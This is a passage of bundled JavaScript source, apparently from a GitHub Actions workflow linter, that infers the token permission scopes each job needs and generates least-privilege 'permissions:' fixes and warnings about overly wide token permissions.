    const quote2 = script[start];
    if (quote2 !== '"' && quote2 !== "'") return;
    let end = start + 1;
    while (end < script.length && script[end] !== quote2 && script[end] !== "\n") end++;
    if (end > start + 1) keys.push(script.slice(start + 1, end));
  };
  for (let i = 0; i < script.length; i++) {
    const ch = script[i];
    if (ch === "$") {
      wordAt(script[i + 1] === "{" ? i + 2 : i + 1);
      if (script.startsWith("$env:", i)) wordAt(i + 5);
    } else if (ch === "e") {
      if (script.startsWith("env.", i)) wordAt(i + 4);
      else if (script.startsWith("environ[", i)) keyAt(i + 8);
    } else if (ch === "g" && script.startsWith("getenv(", i)) keyAt(i + 7);
  }
  keys.sort();
  const reads = {
    has(name) {
      if (name === "") return false;
      if (WORD_NAME.test(name) && words2.has(name)) return true;
      let low = 0;
      let high = keys.length;
      while (low < high) {
        const middle = low + high >> 1;
        if (keys[middle] < name) low = middle + 1;
        else high = middle;
      }
      return low < keys.length && keys[low].startsWith(name);
    }
  };
  lastScript = script;
  lastReads = reads;
  return reads;
}

// server/src/permissions/infer.ts
var JOB_TOKEN_RE = /\$\{\{\s*(secrets\s*\.\s*GITHUB_TOKEN|secrets\s*\[\s*'GITHUB_TOKEN'\s*\]|github\s*\.\s*token)\s*\}\}/i;
var PR_TRIGGERS2 = /* @__PURE__ */ new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
function isJobTokenExpression(text) {
  return !!text && JOB_TOKEN_RE.test(text);
}
function envOf(...views) {
  const env = /* @__PURE__ */ new Map();
  for (const view of views) for (const entry of view.entries) env.set(entry.key, isJobTokenExpression(scalarText(entry.value)));
  return env;
}
var ENV_SETS = new AttachedCache("env-sets");
function envSets(env) {
  let sets = ENV_SETS.get(env);
  if (!sets)
    ENV_SETS.set(
      env,
      sets = { jobTokenEnv: new Set([...env].filter(([, isToken]) => isToken).map(([name]) => name)), names: new Set(env.keys()) }
    );
  return sets;
}
var LazyStepRef = class {
  constructor(step) {
    this.index = step.index;
    this.position = step.position;
    this.span = step.uses?.valueSpan ?? step.run?.valueSpan ?? step.nodeSpan ?? { start: 0, end: 0 };
    this.step = step;
    this.cachedLabel = void 0;
  }
  /** Read only for steps that end up in a result: computed on first read. */
  get label() {
    return this.cachedLabel ??= this.step.label;
  }
};
function ref(step) {
  return new LazyStepRef(step);
}
function inputValue(step, input2) {
  const entry = step.with.get(input2);
  if (!entry) return null;
  return scalarText(entry.value) ?? (entry.value ? "<non-scalar>" : null);
}
function conditionHolds(step, condition) {
  const raw = inputValue(step, condition.input);
  const value = raw === null ? null : raw.trim();
  const set2 = value !== null && value !== "";
  if (condition.is === "set" && !set2) return false;
  if (condition.is === "unset" && set2) return false;
  if (condition.is === "true" && !(value !== null && (/^true$/i.test(value) || value.includes("${{")))) return false;
  if (condition.is === "not-false" && value !== null && /^false$/i.test(value)) return false;
  if (condition.matches && !(value !== null && (condition.matches.test(value) || value.includes("${{")))) return false;
  if (condition.notMatches && value !== null && !value.includes("${{") && condition.notMatches.test(value)) return false;
  return true;
}
var Collector = class {
  constructor(pullRequestWorkflow) {
    this.pullRequestWorkflow = pullRequestWorkflow;
  }
  pullRequestWorkflow;
  scopes = /* @__PURE__ */ new Map();
  unknowns = [];
  tolerated = /* @__PURE__ */ new Set();
  add(scope, level, step, what) {
    if (scope === "comment") this.tolerated.add(this.pullRequestWorkflow ? "issues" : "pull-requests");
    const name = scope === "comment" ? this.pullRequestWorkflow ? "pull-requests" : "issues" : scope;
    let entry = this.scopes.get(name);
    if (!entry) this.scopes.set(name, entry = { scope: name, level, uses: [] });
    if (level === "write") entry.level = "write";
    if (!entry.uses.some((use) => use.step.index === step.index && use.what === what && use.level === level))
      entry.uses.push({ step, what, level });
  }
  unknown(step, reason, kind) {
    if (!this.unknowns.some((u) => u.step.index === step.index && u.reason === reason)) this.unknowns.push({ step, reason, kind });
  }
};
var CACHE = new AttachedCache("job-permissions", attachmentsOf);
function inferJobPermissions(workflow, job, options = {}) {
  if (options.resolve) return computeJobPermissions(workflow, job, options);
  let perJob = CACHE.get(workflow);
  if (!perJob) CACHE.set(workflow, perJob = /* @__PURE__ */ new Map());
  let result = perJob.get(job);
  if (!result) perJob.set(job, result = computeJobPermissions(workflow, job, options));
  return result;
}
function computeJobPermissions(workflow, job, options) {
  const collector = new Collector(workflow.triggers.some((trigger) => PR_TRIGGERS2.has(trigger.name)));
  try {
    inferInto(collector, workflow, job, options, 0);
  } catch {
    collector.unknown({ index: -1, label: job.id, span: job.idSpan }, "the job could not be read", "token");
  }
  return {
    jobId: job.id,
    tolerated: collector.tolerated,
    scopes: [...collector.scopes.values()].sort((a, b) => a.scope < b.scope ? -1 : a.scope > b.scope ? 1 : 0),
    unknowns: collector.unknowns
  };
}
function inferWorkflowPermissions(workflow, options = {}) {
  return workflow.jobs.map((job) => inferJobPermissions(workflow, job, options));
}
function inferInto(collector, workflow, job, options, depth) {
  const jobRef = { index: -1, label: job.id, span: job.uses?.valueSpan ?? job.idSpan };
  if (job.isReusableWorkflowCall) {
    inferReusableCall(collector, job, jobRef, options, depth);
    return;
  }
  for (const image of [job.container, ...job.services.entries]) {
    const view = new MapView(asMap(image?.value ?? null), workflow.doc);
    const password = scalarText(view.child("credentials").get("password")?.value ?? null);
    if (isJobTokenExpression(password)) collector.add("packages", "read", jobRef, "pull a ghcr.io container image");
  }
  const checkoutPersistsJobToken = job.steps.some((step) => {
    const uses = scalarText(step.uses?.value ?? null);
    if (!uses || !/^actions\/checkout@/i.test(uses.trim())) return false;
    const persist = inputValue(step, "persist-credentials");
    const token = inputValue(step, "token");
    return !(persist !== null && /^false$/i.test(persist.trim())) && (token === null || isJobTokenExpression(token));
  });
  const jobEnv = envOf(workflow.env, job.env);
  for (const step of job.steps) {
    const env = step.env.entries.length === 0 ? jobEnv : new Map([...jobEnv, ...envOf(step.env)]);
    if (step.uses) inferUsesStep(collector, step, env, options, depth);
    else if (step.run) inferRunStep(collector, step, env, checkoutPersistsJobToken);
  }
}
function inferRunStep(collector, step, env, checkoutPersistsJobToken) {
  const script = scalarText(step.run?.value ?? null);
  if (!script) return;
  const { jobTokenEnv, names } = envSets(env);
  const stepTokenEnv = step.env.entries.filter((entry) => isJobTokenExpression(scalarText(entry.value))).map((entry) => entry.key);
  const analysis = analyzeRun(script, { jobTokenEnv, env: names });
  const inlineToken = isJobTokenExpression(script);
  const ghVar = env.has("GH_TOKEN") ? "GH_TOKEN" : env.has("GITHUB_TOKEN") ? "GITHUB_TOKEN" : env.has("GH_ENTERPRISE_TOKEN") ? "GH_ENTERPRISE_TOKEN" : null;
  const tokenIsJobs = ghVar !== null && env.get(ghVar) === true || inlineToken;
  const stepRef = ref(step);
  for (const need of analysis.needs) {
    if (!need.viaToken) {
      collector.add(need.scope, need.level, stepRef, need.what);
      continue;
    }
    if (need.what === "git push" || need.what === "mkdocs gh-deploy" || need.what === "ghp-import --push" || need.what === "gh-pages") {
      if (checkoutPersistsJobToken || inlineToken || jobTokenEnv.size > 0 && scriptReadsVariable(script, jobTokenEnv))
        collector.add(need.scope, need.level, stepRef, need.what);
      continue;
    }
    if (need.what === "docker login ghcr.io") {
      if (inlineToken || scriptReadsVariable(script, jobTokenEnv)) collector.add(need.scope, need.level, stepRef, need.what);
      continue;
    }
    if (tokenIsJobs) collector.add(need.scope, need.level, stepRef, need.what);
  }
  if (tokenIsJobs || jobTokenEnv.size > 0) {
    for (const reason of analysis.unknowns) if (tokenIsJobs) collector.unknown(stepRef, `${reason} in \`${step.label}\``, "token");
    const handed = inlineToken || stepTokenEnv.length > 0 || scriptReadsVariable(script, jobTokenEnv);
    if (handed && analysis.needs.filter((need) => need.viaToken).length === 0 && analysis.unknowns.length === 0 && !analysis.usesTokenCommand) {
      collector.unknown(stepRef, `\`${step.label}\` is handed the job token and runs commands the heuristics do not know`, "token");
    }
  }
}
function inferUsesStep(collector, step, env, options, depth) {
  const value = scalarText(step.uses?.value ?? null);
  if (!value) return;
  const reference = parseUses(value);
  const stepRef = ref(step);
  const tokenInWith = step.with.entries.filter((entry2) => isJobTokenExpression(scalarText(entry2.value))).map((entry2) => entry2.key);
  const tokenInEnv = step.env.entries.filter((entry2) => isJobTokenExpression(scalarText(entry2.value))).map((entry2) => entry2.key);
  const handedToken = tokenInWith.length > 0 || tokenInEnv.length > 0;
  if (reference.kind === "docker" || reference.kind === "invalid") {
    if (handedToken) collector.unknown(stepRef, `\`${value}\` is handed the job token`, "token");
    return;
  }
  if (reference.kind === "local" || reference.kind === "self") {
    const path = reference.kind === "local" ? reference.path : cutFromFirst(reference.path, "@");
    const resolved = options.resolve && depth < 4 ? options.resolve(path) : null;
    if (resolved?.action) {
      inferComposite(collector, resolved, stepRef, step, options, depth + 1);
      return;
    }
    collector.unknown(stepRef, `local action \`${value}\` is not analysed${handedToken ? " (it is handed the job token)" : ""}`, "local");
    return;
  }
  const target = usesTarget(reference);
  const entry = actionPermissions(target);
  if (target.toLowerCase() === "actions/github-script") {
    const tokenValue = inputValue(step, "github-token");
    if (tokenValue !== null && !isJobTokenExpression(tokenValue)) return;
    const script = inputValue(step, "script") ?? "";
    const found = analyzeGithubScript(script);
    for (const need of found.needs) collector.add(need.scope, need.level, stepRef, need.what);
    for (const reason of found.unknowns) collector.unknown(stepRef, `actions/github-script: ${reason}`, "token");
    return;
  }
  if (!entry) {
    collector.unknown(
      stepRef,
      handedToken ? `\`${target}\` is handed the job token (${[...tokenInWith, ...tokenInEnv].join(", ")}) and is not in the permissions table` : `\`${target}\` is not in the permissions table (it may default an input to \`github.token\`)`,
      handedToken ? "token" : "unlisted"
    );
    return;
  }
  let getsJobToken = false;
  if (entry.token) {
    const given = inputValue(step, entry.token.input);
    getsJobToken = given === null || given.trim() === "" ? entry.token.defaultsToJobToken : isJobTokenExpression(given);
  }
  if (entry.tokenEnv) getsJobToken ||= entry.tokenEnv.some((name) => env.get(name) === true);
  if (!entry.token && !entry.tokenEnv) getsJobToken = true;
  for (const need of entry.scopes) {
    if ((need.viaToken ?? true) && !getsJobToken) continue;
    if (need.when && !need.when.every((condition) => conditionHolds(step, condition))) continue;
    if (need.optional) {
      collector.tolerated.add(need.scope);
      continue;
    }
    collector.add(need.scope, need.level, stepRef, target);
  }
  if (entry.unknown && getsJobToken) collector.unknown(stepRef, `${target}: ${entry.unknown}`, "token");
}
function inferComposite(collector, file, at, caller, options, depth) {
  const action = file.action;
  if (!action.isComposite) {
    if (caller.with.entries.some((entry) => isJobTokenExpression(scalarText(entry.value))))
      collector.unknown(at, `local action \`${scalarText(caller.uses?.value ?? null)}\` is handed the job token`, "local");
    return;
  }
  const tokenInputs = /* @__PURE__ */ new Set();
  for (const input2 of action.inputs.entries) {
    const given = caller.with.get(input2.key);
    const def = scalarText(new MapView(asMap(input2.value), file.doc).get("default")?.value ?? null);
    if (given ? isJobTokenExpression(scalarText(given.value)) : isJobTokenExpression(def)) tokenInputs.add(input2.key);
  }
  const rewrite = (text) => text.replace(
    /\$\{\{\s*inputs\.([A-Za-z0-9_-]+)\s*\}\}/g,
    (whole, name2) => tokenInputs.has(name2) ? "${{ github.token }}" : whole
  );
  const sub = new Collector(false);
  for (const step of action.steps) {
    const env = /* @__PURE__ */ new Map();
    for (const entry of step.env.entries) env.set(entry.key, isJobTokenExpression(rewrite(scalarText(entry.value) ?? "")));
    if (step.uses) {
      inferUsesStep(sub, withPatchedInputs(step, rewrite), env, options, depth);
    } else if (step.run) {
      const script = rewrite(scalarText(step.run.value) ?? "");
      const analysis = analyzeRun(script, {
        jobTokenEnv: new Set([...env].filter(([, t]) => t).map(([n]) => n)),
        env: new Set(env.keys())
      });
      const ghVar = env.has("GH_TOKEN") ? "GH_TOKEN" : env.has("GITHUB_TOKEN") ? "GITHUB_TOKEN" : null;
      const jobs = ghVar !== null && env.get(ghVar) === true || isJobTokenExpression(script);
      for (const need of analysis.needs) if (!need.viaToken || jobs) sub.add(need.scope, need.level, ref(step), need.what);
      if (jobs) for (const reason of analysis.unknowns) sub.unknown(ref(step), reason, "token");
    }
  }
  const name = scalarText(caller.uses?.value ?? null) ?? "local action";
  for (const scope of sub.scopes.values()) for (const use of scope.uses) collector.add(scope.scope, use.level, at, `${name} (${use.what})`);
  for (const unknown of sub.unknowns) collector.unknown(at, `${name}: ${unknown.reason}`, unknown.kind);
}
function withPatchedInputs(step, rewrite) {
  const patched = Object.create(step);
  const original = step.with;
  const view = Object.create(original);
  Object.defineProperty(view, "get", {
    value: (key) => {
      const entry = original.get(key);
      if (!entry) return entry;
      const text = scalarText(entry.value);
      if (text === null || rewrite(text) === text) return entry;
      return { ...entry, value: { ...entry.value, value: rewrite(text), source: void 0 } };
    }
  });
  Object.defineProperty(view, "entries", { value: original.entries.map((entry) => view.get(entry.key) ?? entry) });
  Object.defineProperty(patched, "with", { get: () => view });
  return patched;
}
function inferReusableCall(collector, job, at, options, depth) {
  const value = scalarText(job.uses?.value ?? null) ?? "";
  const reference = parseUses(value);
  const path = reference.kind === "local" ? reference.path : reference.kind === "self" ? `./${cutFromFirst(reference.path, "@")}` : null;
  const resolved = path && options.resolve && depth < 4 ? options.resolve(path) : null;
  const called = resolved?.workflow;
  if (!called) {
    collector.unknown(at, `job \`${job.id}\` calls the reusable workflow \`${value}\`: grant what its jobs need`, "reusable");
    return;
  }
  for (const calledJob of called.jobs) {
    const declared = calledJob.permissions ?? called.permissions;
    if (declared) {
      for (const [scope, level] of declaredScopes(declared)) collector.add(scope, level, at, `${value} (${calledJob.id})`);
      continue;
    }
    const sub = new Collector(collector.pullRequestWorkflow);
    inferInto(sub, called, calledJob, options, depth + 1);
    for (const scope of sub.scopes.values())
      for (const use of scope.uses) collector.add(scope.scope, use.level, at, `${value} (${calledJob.id}: ${use.what})`);
    for (const unknown of sub.unknowns) collector.unknown(at, `${value}: ${unknown.reason}`, unknown.kind);
  }
}
var ALL_SCOPES = [
  "actions",
  "artifact-metadata",
  "attestations",
  "checks",
  "code-quality",
  "contents",
  "deployments",
  "discussions",
  "id-token",
  "issues",
  "models",
  "packages",
  "pages",
  "pull-requests",
  "repository-projects",
  "security-events",
  "statuses"
];
function declaredScopes(entry) {
  const result = /* @__PURE__ */ new Map();
  const shorthand = scalarText(entry.value);
  if (shorthand === "read-all" || shorthand === "write-all") {
    for (const scope of ALL_SCOPES) {
      if (scope === "id-token" && shorthand === "read-all") continue;
      if (scope === "models" && shorthand === "write-all") {
        result.set(scope, "read");
        continue;
      }
      result.set(scope, shorthand === "read-all" ? "read" : "write");
    }
    return result;
  }
  for (const scope of new MapView(asMap(entry.value), null).entries) {
    const level = scalarText(scope.value);
    if (level === "read" || level === "write") result.set(scope.key, level);
  }
  return result;
}

// server/src/fixes/permissions.ts
var LEAST_PRIVILEGE_TITLE = "Add least-privilege permissions";
var JOB_MINIMAL_TITLE = "Add minimal permissions to this job";
var MOVE_WRITES_TITLE = "Move workflow-level write permissions into the jobs that use them";
function shorten(text, max = 60) {
  const single = text.replace(/\s+/g, " ").trim();
  return single.length > max ? `${single.slice(0, max - 1)}…` : single;
}
function reasonComment(whats) {
  const unique = [...new Set(whats)];
  const shown = unique.slice(0, 3).join("; ") + (unique.length > 3 ? `; +${unique.length - 3} more` : "");
  return `  # ${shorten(shown, 80)}`;
}
function jobBlockLines(result, step, always2 = false, extra = /* @__PURE__ */ new Map()) {
  const scopes = /* @__PURE__ */ new Map();
  for (const [scope, level] of extra) scopes.set(scope, { level, comment: "" });
  for (const scope of result.scopes)
    scopes.set(scope.scope, {
      level: scope.level,
      comment: reasonComment(scope.uses.filter((use) => use.level === scope.level).map((use) => use.what))
    });
  const verify = [...new Set(result.unknowns.map((unknown) => `# verify: ${shorten(unknown.reason, 100)}`))];
  if (scopes.size === 0) {
    if (verify.length === 0) return always2 ? ["permissions: {}"] : null;
    return ["permissions: {}  " + verify[0], ...verify.slice(1, 3)];
  }
  const lines = ["permissions:"];
  for (const [scope, { level, comment }] of [...scopes].sort(([a], [b]) => a < b ? -1 : 1))
    lines.push(`${step}${scope}: ${level}${comment}`);
  for (const line of verify.slice(0, 3)) lines.push(`${step}${line}`);
  return lines;
}
function jobInsertionPoint(file, job) {
  const map2 = asMap(job.entry.value);
  if (!map2 || map2.flow) return null;
  const anchor = job.get("steps") ?? job.get("uses") ?? job.entries[0];
  if (!anchor) return null;
  const own = job.entry.valueSpan;
  if (anchor.keySpan.start < own.start || anchor.keySpan.start >= own.end) return null;
  const line = file.lines.lineAt(anchor.keySpan.start);
  const before = file.text.slice(file.lines.lineStarts[line], anchor.keySpan.start);
  return /^[ ]*$/.test(before) ? anchor.keySpan.start : null;
}
function insertJobBlock(file, job, lines) {
  const at = jobInsertionPoint(file, job);
  return at === null ? null : insertLinesAbove(file, at, lines);
}
function valueContentEnd(file, entry, floor) {
  let end = Math.min(Math.max(entry.keySpan.end, entry.valueSpan.end), file.text.length);
  while (end > floor && /[ \t\r\n]/.test(file.text[end - 1])) end--;
  return Math.max(end, floor);
}
function replacePermissionsValue(file, entry, lines) {
  const keyEnd = entry.keySpan.end;
  const colon = file.text.indexOf(":", keyEnd);
  if (colon === -1 || /[^ \t"']/.test(file.text.slice(keyEnd, colon))) return null;
  const end = valueContentEnd(file, entry, colon + 1);
  const keyLine = file.lines.lineAt(entry.keySpan.start);
  const keyLineEnd = file.lines.lineContentEnd(keyLine);
  const blockValue = entry.valueSpan.start > keyLineEnd && end > keyLineEnd;
  const tail = blockValue ? file.text.slice(colon + 1, keyLineEnd) : "";
  if (blockValue && !/^[ \t]*(#.*)?$/.test(tail)) return null;
  const comment = tail.trim() ? `  ${tail.trim()}` : "";
  if (!lines || lines.length === 1) {
    const value = lines ? lines[0].replace(/^permissions:\s*/, "") || "{}" : "{}";
    return { span: { start: colon + 1, end }, newText: ` ${value}${comment}` };
  }
  const indent = file.lines.indentation(keyLine);
  const eol = file.lines.eol;
  const body = eol + lines.slice(1).map((line) => indent + line).join(eol);
  if (blockValue) return { span: { start: keyLineEnd, end }, newText: body };
  const rest = end <= keyLineEnd ? file.text.slice(end, keyLineEnd) : "";
  if (/^[ \t]+#/.test(rest)) return { span: { start: colon + 1, end: keyLineEnd }, newText: `  ${rest.trim()}${body}` };
  return { span: { start: colon + 1, end }, newText: body };
}
function removeEntryLines(file, entry) {
  const lines = file.lines;
  const first = lines.lineAt(entry.keySpan.start);
  const last = lines.lineAt(valueContentEnd(file, entry, entry.keySpan.end));
  const start = lines.lineStarts[first];
  if (!/^[ \t]*$/.test(file.text.slice(start, entry.keySpan.start))) return null;
  const rest = file.text.slice(valueContentEnd(file, entry, entry.keySpan.end), lines.lineContentEnd(last));
  if (!/^[ \t]*(#.*)?$/.test(rest)) return null;
  const end = last + 1 < lines.lineCount ? lines.lineStarts[last + 1] : file.text.length;
  return { span: { start, end }, newText: "" };
}
function leastPrivilegeFix(file, inferred) {
  const workflow = file.workflow;
  if (!workflow) return null;
  const step = indentStep(file);
  const edits = [];
  const existing = workflow.permissions;
  if (existing) {
    const edit = replacePermissionsValue(file, existing, null);
    if (!edit) return null;
    edits.push(edit);
  } else {
    const jobs = workflow.jobsEntry;
    edits.push(jobs ? insertLinesAbove(file, jobs.keySpan.start, ["permissions: {}"]) : appendLines(file, ["permissions: {}"]));
  }
  let unknown = false;
  const skipped = [];
  workflow.jobs.forEach((job, index) => {
    if (job.permissions) return;
    const result = inferred[index];
    if (!result) return;
    if (result.unknowns.length > 0) unknown = true;
    const lines = jobBlockLines(result, step);
    if (!lines) return;
    const edit = insertJobBlock(file, job, lines);
    if (edit) edits.push(edit);
    else skipped.push(job.id);
  });
  return {
    fix: {
      title: unknown ? `${LEAST_PRIVILEGE_TITLE} (verify the commented jobs)` : LEAST_PRIVILEGE_TITLE,
      isPreferred: !unknown && skipped.length === 0,
      safety: "unsafe",
      edits
    },
    skipped
  };
}
function jobMinimalFix(file, job, result) {
  const lines = jobBlockLines(result, indentStep(file), true);
  const edit = job.permissions ? replacePermissionsValue(file, job.permissions, lines) : insertJobBlock(file, job, lines);
  if (!edit) return null;
  return { title: JOB_MINIMAL_TITLE, isPreferred: result.unknowns.length === 0, safety: "unsafe", edits: [edit] };
}
function moveWriteScopesFix(file, inferred) {
  const workflow = file.workflow;
  const block = workflow?.permissions;
  if (!workflow || !block || !block.value || !isMap(block.value) || block.value.flow) return null;
  const entries = new MapView(asMap(block.value), file.doc).entries;
  const writes = entries.filter((entry) => scalarText(entry.value) === "write");
  if (writes.length === 0) return null;
  const remaining = /* @__PURE__ */ new Map();
  for (const [scope, level] of declaredScopes(block)) if (level !== "write") remaining.set(scope, level);
  const step = indentStep(file);
  const edits = [];
  if (writes.length === entries.length) {
    const edit = replacePermissionsValue(file, block, null);
    if (!edit) return null;
    edits.push(edit);
  } else {
    for (const entry of writes) {
      const edit = removeEntryLines(file, entry);
      if (!edit) return null;
      edits.push(edit);
    }
  }
  const writeScopes = new Set(writes.map((entry) => entry.key));
  const ownComments = /* @__PURE__ */ new Map();
  for (const entry of entries) {
    const end = valueContentEnd(file, entry, entry.keySpan.end);
    const rest = file.text.slice(end, file.lines.lineContentEnd(file.lines.lineAt(end)));
    if (/^[ \t]+#/.test(rest)) ownComments.set(entry.key, `  ${rest.trim()}`);
  }
  const commentFor = (result, scope, level, fallback) => {
    const found = result.scopes.find((s) => s.scope === scope);
    const atLevel = found ? found.uses.filter((use) => use.level === level) : [];
    const whats = (atLevel.length > 0 ? atLevel : found?.uses ?? []).map((use) => use.what);
    if (whats.length > 0) return reasonComment(whats);
    return ownComments.get(scope) ?? `  # ${fallback}`;
  };
  const blockLines = (scopes, comment) => [
    "permissions:",
    ...[...scopes].sort(([a], [b]) => a < b ? -1 : 1).map(([scope, level]) => `${step}${scope}: ${level}${comment(scope, level)}`)
  ];
  let unknown = false;
  workflow.jobs.forEach((job, index) => {
    const result = inferred[index];
    if (job.permissions || !result) return;
    if (result.unknowns.length > 0) {
      unknown = true;
      const keep = new Map(remaining);
      for (const scope of writeScopes) keep.set(scope, "write");
      const lines = [
        ...blockLines(keep, (scope, level) => commentFor(result, scope, level, "was granted at workflow level; verify")),
        ...result.unknowns.slice(0, 2).map((u) => `${step}# verify: ${shorten(u.reason, 100)}`)
      ];
      const edit2 = insertJobBlock(file, job, lines);
      if (edit2) edits.push(edit2);
      return;
    }
    const used = result.scopes.filter((scope) => writeScopes.has(scope.scope) && scope.level === "write");
    if (used.length === 0) return;
    const all = new Map(remaining);
    for (const scope of used) all.set(scope.scope, "write");
    const edit = insertJobBlock(
      file,
      job,
      blockLines(all, (scope, level) => commentFor(result, scope, level, "was granted at workflow level"))
    );
    if (edit) edits.push(edit);
  });
  return { title: MOVE_WRITES_TITLE, isPreferred: !unknown, safety: "unsafe", edits };
}

// server/src/knowledge/permissions.ts
var PERMISSION_SCOPES = {
  actions: {
    read: "read workflow runs, artifacts and caches",
    write: "cancel and re-run workflows, delete caches and artifacts",
    writeSeverity: "high"
  },
  attestations: { read: "read artifact attestations", write: "create artifact attestations", writeSeverity: "high" },
  "artifact-metadata": { read: "read artifact metadata", write: "create artifact metadata records", writeSeverity: "medium" },
  checks: { read: "read check runs", write: "create and update check runs", writeSeverity: "medium" },
  "code-quality": { read: "read code quality findings", write: "upload code quality findings", writeSeverity: "medium" },
  contents: {
    read: "read the repository contents, commits and releases",
    write: "push commits and tags, create releases, merge pull requests: the whole code base",
    writeSeverity: "high"
  },
  deployments: { read: "read deployments", write: "create deployments and their statuses", writeSeverity: "high" },
  discussions: { read: "read discussions", write: "create, edit and comment on discussions", writeSeverity: "medium" },
  "id-token": {
    read: "(no read level)",
    write: "request an OIDC token: publish to registries and sign in to clouds as this workflow",
    writeSeverity: "high"
  },
  issues: { read: "read issues", write: "create, edit, label and comment on issues", writeSeverity: "high" },
  models: { read: "call GitHub Models", write: "(no write level)", writeSeverity: "low" },
  packages: {
    read: "download GitHub Packages",
    write: "publish and delete GitHub Packages (container images, npm, Maven, ...)",
    writeSeverity: "high"
  },
  pages: { read: "read GitHub Pages settings and builds", write: "deploy the GitHub Pages site", writeSeverity: "high" },
  "pull-requests": {
    read: "read pull requests",
    write: "open, edit, label, comment on, review and close pull requests",
    writeSeverity: "high"
  },
  "repository-projects": { read: "read classic projects", write: "edit classic projects", writeSeverity: "medium" },
  "security-events": { read: "read code scanning alerts", write: "upload SARIF and dismiss code scanning alerts", writeSeverity: "medium" },
  statuses: { read: "read commit statuses", write: "set commit statuses", writeSeverity: "low" }
};
function scopeInfo(scope) {
  return Object.prototype.hasOwnProperty.call(PERMISSION_SCOPES, scope) ? PERMISSION_SCOPES[scope] : void 0;
}

// server/src/rules/excessive-permissions.ts
var excessivePermissions = {
  id: "excessive-permissions",
  title: "Token permissions wider than needed",
  kinds: ["workflow"],
  severity: "medium",
  confidence: "medium",
  persona: "regular",
  online: false,
  docs: {
    summary: "A workflow or job runs with the default token permissions (no `permissions:`), with `write-all` / `read-all`, grants write scopes to every job at workflow level, or (pedantic) grants a job a write scope nothing in it appears to use.",
    why: 'The `GITHUB_TOKEN` is handed to every step, including third-party actions and whatever a build script runs. In the Nx "s1ngularity" attack (2025, CVE-2025-10894) and at elementary-data (2026), workflows without a `permissions:` block ran with the old write-all default, so injected code could push, publish and tamper with releases. Repositories and organisations created before February 2023 still default to write.',
    fix: 'Start every workflow with `permissions: {}` and grant each job only the scopes it uses, with a comment saying why, e.g. `contents: read  # actions/checkout`. The quick fix "Add least-privilege permissions" infers each job\'s block from its steps.'
  },
  check(context) {
    const workflow = context.file.workflow;
    if (!workflow || !workflow.map) return;
    const workflowPermissions = workflow.permissions;
    const jobsWithoutPermissions = workflow.jobs.filter((job) => !job.permissions);
    const onlyCalled = workflow.triggers.length > 0 && workflow.triggers.every((trigger) => trigger.name === "workflow_call");
    let all;
    const inferred = () => all ??= inferWorkflowPermissions(workflow);
    if (!workflowPermissions) {
      if (workflow.jobs.length === 0) return;
      const anchor = workflow.jobsEntry;
      const span = anchor ? anchor.keySpan : { start: 0, end: 0 };
      const fixes = () => missingPermissionsFixes(context.file, jobsWithoutPermissions.length === 0, inferred());
      if (jobsWithoutPermissions.length === 0) {
        context.report({
          span,
          message: "No workflow-level `permissions:`: every job declares its own today, but a job added later would get the default token permissions. Add `permissions: {}`",
          severity: "low",
          confidence: "high",
          persona: "pedantic",
          fixes
        });
        return;
      }
      const names = jobsWithoutPermissions.map((job) => `\`${job.id}\``);
      const list = names.length > 3 ? `${names.slice(0, 3).join(", ")} and ${names.length - 3} more` : names.join(", ");
      context.report({
        span,
        message: onlyCalled ? `No \`permissions:\` at workflow level or in job${names.length > 1 ? "s" : ""} ${list}: ${names.length > 1 ? "they run" : "it runs"} with whatever the calling workflow grants` : `No \`permissions:\` at workflow level or in job${names.length > 1 ? "s" : ""} ${list}: ${names.length > 1 ? "they run" : "it runs"} with the repository's default token permissions, which may be write-all`,
        severity: onlyCalled ? "low" : "medium",
        persona: onlyCalled ? "pedantic" : "regular",
        related: jobsWithoutPermissions.map((job) => ({ span: job.idSpan, message: `job \`${job.id}\` has no \`permissions:\`` })),
        fixes
      });
    } else {
      checkPermissionsBlock(context, workflowPermissions, null, jobsWithoutPermissions.length, workflow.jobs.length, inferred);
    }
    for (const job of workflow.jobs) {
      if (job.permissions) checkPermissionsBlock(context, job.permissions, job, 1, 1, inferred, () => inferJobPermissions(workflow, job));
    }
  }
};
function checkPermissionsBlock(context, entry, job, jobCount, totalJobs, inferred, jobResult) {
  const where = job ? `job \`${job.id}\`` : "the workflow";
  const shorthand = scalarText(entry.value);
  const shorthandFixes = () => {
    if (job && jobResult) {
      const fix = jobMinimalFix(context.file, job, jobResult());
      return fix ? [fix] : [];
    }
    const plan = leastPrivilegeFix(context.file, inferred());
    return plan ? [plan.fix] : [];
  };
  const needs = () => job && jobResult ? needsSummary(jobResult()) : "";
  if (!job && jobCount === 0 && totalJobs > 0 && (shorthand === "write-all" || shorthand === "read-all")) {
    context.report({
      span: entry.valueSpan,
      message: `\`permissions: ${shorthand}\` at workflow level is inherited by no job (every job sets its own \`permissions:\`), but a job added later would get it; use \`permissions: {}\``,
      severity: "low",
      confidence: "high",
      persona: "pedantic",
      fixes: [
        { title: "Replace with `permissions: {}`", isPreferred: true, safety: "safe", edits: [{ span: entry.valueSpan, newText: "{}" }] }
      ]
    });
    return;
  }
  if (shorthand === "write-all") {
    context.report({
      span: entry.valueSpan,
      message: `\`permissions: write-all\` gives ${where} a token that can write to every scope: push code, publish packages, change releases${needs()}`,
      severity: "high",
      confidence: "high",
      fixes: shorthandFixes
    });
    return;
  }
  if (shorthand === "read-all") {
    context.report({
      span: entry.valueSpan,
      message: `\`permissions: read-all\` gives ${where} read access to every scope; list only the scopes it needs (often just \`contents: read\`)${needs()}`,
      severity: "medium",
      confidence: "high",
      fixes: shorthandFixes
    });
    return;
  }
  if (job && jobResult) {
    checkUnusedJobWrites(context, entry, job, jobResult);
    return;
  }
  if (job || !entry.value || !isMap(entry.value)) return;
  let move;
  const moveFixes = () => {
    if (move === void 0) move = moveWriteScopesFix(context.file, inferred());
    return move ? [move] : [];
  };
  const workflow = context.file.workflow;
  for (const scope of new MapView(asMap(entry.value), context.file.doc).entries) {
    if (scalarText(scope.value) !== "write") continue;
    const info = scopeInfo(scope.key);
    const users = workflow.jobs.filter((j, i) => !j.permissions && inferred()[i]?.scopes.some((s) => s.scope === scope.key && s.level === "write")).map((j) => `\`${j.id}\``);
    const unsure = workflow.jobs.some((j, i) => !j.permissions && (inferred()[i]?.unknowns.length ?? 0) > 0);
    const usage = jobCount === 0 ? "" : users.length > 0 ? `; used by ${users.slice(0, 3).join(", ")}${users.length > 3 ? ` and ${users.length - 3} more` : ""}` : unsure ? "" : "; no job appears to use it";
    context.report({
      span: scope.keySpan,
